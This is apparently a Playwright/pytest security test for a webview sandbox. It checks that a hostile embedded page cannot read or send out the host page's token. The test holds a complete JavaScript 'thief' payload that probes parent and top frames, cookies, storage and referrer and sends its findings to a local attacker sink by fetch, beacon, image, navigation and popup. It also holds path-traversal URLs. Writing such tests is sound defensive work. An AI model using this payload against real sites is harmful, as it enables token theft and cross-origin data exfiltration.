"""A webview that tries to steal the page's token in real Chromium: it learns nothing that opens
more than its own view (docs/security.md, "The page and viewers")."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import unquote

import pytest
from viewers_support import CHROMIUM, http_get, run_worker, running_host, wait_for

playwright_api = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian chromium missing")

# Every trick a page's script has to learn where it is framed and to send it away.
THIEF = """<!doctype html><meta charset=utf-8><title>thief</title>
<form id=f method=POST action="@PAGE@/"></form>
<script>
const PAGE = "@PAGE@", SINK = "@SINK@";
const found = {self: location.href};
const pack = () => encodeURIComponent(JSON.stringify(found));
const tryIt = (name, fn) => {
  try { found[name] = String(fn()); } catch (e) { found[name] = "blocked: " + e.name; }
};
tryIt("referrer", () => document.referrer);
tryIt("parent", () => parent.location.href);
tryIt("top", () => top.location.href);
tryIt("parentDocument", () => parent.document.documentElement.outerHTML);
tryIt("opener", () => window.opener && window.opener.location.href);
tryIt("ancestors", () => Array.from(location.ancestorOrigins).join(" "));
tryIt("cookie", () => document.cookie);
tryIt("storage", () => JSON.stringify(localStorage));
tryIt("name", () => window.name);
tryIt("history", () => history.length);
tryIt("frames", () => parent.frames.length);
const attempts = [];
attempts.push(fetch(PAGE + "/").then((r) => r.text()).then(
  (t) => { found.fetchPage = t; }, () => { found.fetchPage = "blocked"; }));
attempts.push(fetch(SINK + "/fetch?" + pack()).then(
  () => { found.fetchSink = "sent"; }, () => { found.fetchSink = "blocked"; }));
attempts.push(new Promise((done) => {
  const xhr = new XMLHttpRequest();
  xhr.onload = () => { found.xhr = xhr.responseText; done(); };
  xhr.onerror = () => { found.xhr = "blocked"; done(); };
  try { xhr.open("GET", PAGE + "/"); xhr.send(); } catch (e) { found.xhr = "blocked"; done(); }
}));
tryIt("beacon", () => navigator.sendBeacon(SINK + "/beacon", JSON.stringify(found)));
const img = new Image();
img.src = SINK + "/img?" + pack();
tryIt("topNavigation", () => { top.location = SINK + "/top?" + pack(); });
tryIt("parentNavigation", () => { parent.location = SINK + "/parent?x"; });
tryIt("form", () => document.getElementById("f").submit());
tryIt("popup", () => window.open(SINK + "/popup?" + pack()));
Promise.allSettled(attempts).then(() => {
  setTimeout(() => { location.href = SINK + "/self?" + pack(); }, 300);
});
</script>"""


@contextmanager
def sink() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server that records every request line and body it gets (the attacker's)."""
    received: list[str] = []

    class Record(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def _record(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
            received.append(unquote(self.path) + " " + body + " "
                            + (self.headers.get("Referer") or ""))
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"ok")

        do_GET = do_POST = _record

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", received
    finally:
        server.shutdown()
        server.server_close()


def test_a_webview_cannot_learn_or_send_the_page_token(tmp_path: Path, browser: object) -> None:
    root = tmp_path / "root"
    with sink() as (sink_url, received), running_host(root) as (_host, viewers):
        ui = viewers.ui
        assert ui is not None
        page_origin = f"http://127.0.0.1:{ui.port}"
        html = THIEF.replace("@PAGE@", page_origin).replace("@SINK@", sink_url)
        run_worker(root, "healthy", """
from filebridge.worker import viewers
viewers.webview(html="<p>other session</p>", title="other")
""")
        run_worker(root, "thief", f"""
from filebridge.worker import viewers
viewers.webview(html={html!r}, title="thief")
viewers.dataview([{{"a": 1}}], title="rows")
""")
        thief, rows = wait_for(lambda: len(viewers.store.views("thief")) == 2
                               and viewers.store.views("thief"), what="the thief's views")
        (other,) = viewers.store.views("healthy")

        page = browser.new_page()  # type: ignore[attr-defined]
        popups: list[object] = []
        page.context.on("page", lambda popup: popups.append(popup))
        page.goto(ui.url)
        page.locator("[data-testid=session][data-session=thief]").click()
        page.get_by_test_id("tab-views").click()
        page.locator("[data-testid=view][data-kind=webview] button.open").click()
        wait_for(lambda: any(r.startswith("/self?") for r in received), timeout=60,
                 what="the thief's last report")
        page.wait_for_timeout(500)
        assert page.url == ui.url  # the page itself was not navigated away
        report = json.loads(next(r for r in received if r.startswith("/self?"))
                            .split("?", 1)[1].rsplit(" ", 2)[0])
        # the page's own state change (a POST with its Origin) still works in the browser
        page.locator(f"[data-testid=view][data-view='{rows.id}'] [data-testid=close-view]").click()
        wait_for(lambda: [v.id for v in viewers.store.views("thief")] == [thief.id],
                 what="the data view closed from the page")
        page.close()
        for popup in popups:
            popup.close()  # type: ignore[attr-defined]

        # nothing the attacker received holds the page's token
        assert received and not [r for r in received if ui.token in r]
        assert report["referrer"] == ""
        for key in ("parent", "top", "parentDocument", "storage"):
            assert report[key].startswith("blocked"), (key, report[key])
        assert report["fetchPage"] == "blocked" and report["xhr"] == "blocked"
        assert report["ancestors"] == page_origin  # an origin, no path and no token
        # the blocked channels never reached the sink; only its own navigation and popup did
        assert {r.split("?")[0].split(" ")[0] for r in received} <= {"/self", "/popup",
                                                                 "/favicon.ico"}

        # whatever it sent opens its own view and nothing else
        leaked = set(re.findall(r"[A-Za-z0-9_-]{20,}", " ".join(received)))
        thief_capability = ui.view_url("thief", thief.id).split("/")[3]
        assert thief_capability in leaked
        for value in leaked:
            assert http_get(f"{page_origin}/{value}/api/state")[0] == 403
            assert http_get(f"{page_origin}/{value}/api/sessions/thief")[0] == 403
        other_frame = ui.view_url("healthy", other.id)
        assert other_frame.split("/")[3] not in leaked
        for path in (f"..%2f{other_frame.split('/')[3]}%2findex.html", "../rows", "%2e%2e/"):
            status, _, body = http_get(f"{ui.view_base}/{thief_capability}/{path}")
            assert status in (403, 404) and b"other session" not in body

        # the page kept its state (the form post and requests changed nothing but the close the
        # user clicked) and works
        assert [v.id for v in viewers.store.views("thief")] == [thief.id]
        status, _, body = http_get(other_frame)
        assert status == 200 and body == b"<p>other session</p>"
        run_worker(root, "healthy", """
from filebridge.worker import viewers
viewers.dataview([{"b": 2}], title="still here")
""")
        wait_for(lambda: len(viewers.store.views("healthy")) == 2, what="the healthy view")
